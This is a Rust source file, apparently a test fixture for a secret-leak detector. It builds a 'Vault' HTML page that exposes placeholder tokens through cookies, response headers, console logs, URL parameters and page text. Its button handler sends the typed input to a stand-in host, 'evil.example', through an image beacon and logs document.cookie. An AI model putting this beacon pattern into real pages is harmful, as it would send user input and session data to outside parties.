//! A page that keeps a secret in every place that is not a field, and tells most of them.

/// What the vault keeps: in a cookie, a header, a script's cookie, the console twice, an address and its fragment, a
/// request that fails, its text, and what it says at the end.
pub(crate) const VAULT: [&str; 10] = [
    "sK7vQ2mZ9xR4tB8nL1cW6yH3pD5g",
    "aJ5eU8oI2kF7zX4qV9mN3bT6wC1r",
    "Gh3Yt9Rw2Qe7Pz5Xc8Vb1Nm4Lk6J",
    "u7Bv3Cx9Zl5Kj1Hg8Fd4Sa2Po6Iy",
    "W2q5E8r1T4y7U0i3O6p9A2s5D8fG",
    "mN8bV5cX2zL9kJ6hG3fD0sA7pO4i",
    "Qz1Wx2Ec3Rv4Tb5Yn6Um7Ik8Ol9P",
    "yT4rE7wQ0pL3kJ6hG9fD2sA5zX8c",
    "B6nM3vC0xZ7lK4jH1gF8dS5aP2oI",
    "e9R6t3Y0u7I4o1P8a5S2d9F6g3Hj",
];

/// The page itself. What is typed there goes, once it is sent, to the name of a host, the console and a text.
pub(crate) fn page() -> String {
    let [_, _, cookie, log, error, address, fragment, request, text, end] = VAULT;
    format!(
        r#"<!doctype html><title>Vault</title><label>Word <input name=word></label><button>Send</button>
<a href="/next?access_token={address}#id_token={fragment}">Next</a><p>Your API key: {text}</p><p role=status></p><script>
document.cookie = "js={cookie}";
console.log("Authorization: Bearer {log}");
console.error("the token={error} is wrong");
fetch("/broken?api_key={request}");
document.querySelector("button").onclick = () => {{
  const word = document.querySelector("input").value;
  new Image().src = "http://" + word + ".evil.example/?" + word;
  console.log(word, btoa(word), document.cookie);
  document.querySelector("[role=status]").textContent = "Sent";
  document.querySelector("p").append(" password: {end} " + word);
}};
</script>"#
    )
}

/// The headers of its answer, a line each.
pub(crate) fn headers() -> String {
    format!("Set-Cookie: sid={}; HttpOnly\r\nX-Api-Key: {}\r\n", VAULT[0], VAULT[1])
}
